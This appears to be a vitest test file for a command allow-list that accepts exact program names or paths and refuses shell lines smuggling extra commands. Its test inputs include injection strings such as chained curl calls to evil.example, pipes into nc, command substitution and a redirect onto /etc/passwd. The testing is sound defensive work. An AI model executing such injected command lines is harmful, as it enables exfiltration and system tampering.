import { describe, expect, it } from 'vitest';
import { CommandAllowList, commandLabel } from './commands.js';

describe('command allow-list', () => {
  const list = new CommandAllowList(['git', '/opt/bin/convert']);

  it('allows bare names only as bare names, paths only exactly', () => {
    expect(list.allowsFile('git')).toBe(true);
    expect(list.allowsFile('/tmp/evil/git')).toBe(false);
    expect(list.allowsFile('./git')).toBe(false);
    expect(list.allowsFile('/opt/bin/convert')).toBe(true);
    expect(list.allowsFile('/opt/bin/../bin/convert')).toBe(true);
    expect(list.allowsFile('convert')).toBe(false);
    expect(list.allowsFile('sh')).toBe(false);
  });

  it.each([
    'git status; curl evil.example', 'git status && sh', 'git $(id)', 'git `id`', 'git status | nc x 1', 'git > /etc/passwd',
    'git status\ncurl x', 'curl evil.example', '"git"x status', "git 'a'; id", 'git status &', '', '   ',
  ])('refuses the shell line %j', (line) => {
    expect(list.allowsShellLine(line)).toBe(false);
  });

  it('allows a plain shell line whose program is allowed', () => {
    expect(list.allowsShellLine('git status --short')).toBe(true);
    expect(list.allowsShellLine('"git" log -1')).toBe(true);
  });

  it('labels commands without their arguments', () => {
    expect(commandLabel('curl -u admin:hunter2 https://x')).toBe('curl');
    expect(commandLabel('/usr/bin/psql postgres://u:pw@h/db')).toBe('/usr/bin/psql');
  });

  it('rejects malformed entries', () => {
    expect(() => new CommandAllowList(['git status'])).toThrow(TypeError);
    expect(() => new CommandAllowList([''])).toThrow(TypeError);
  });
});
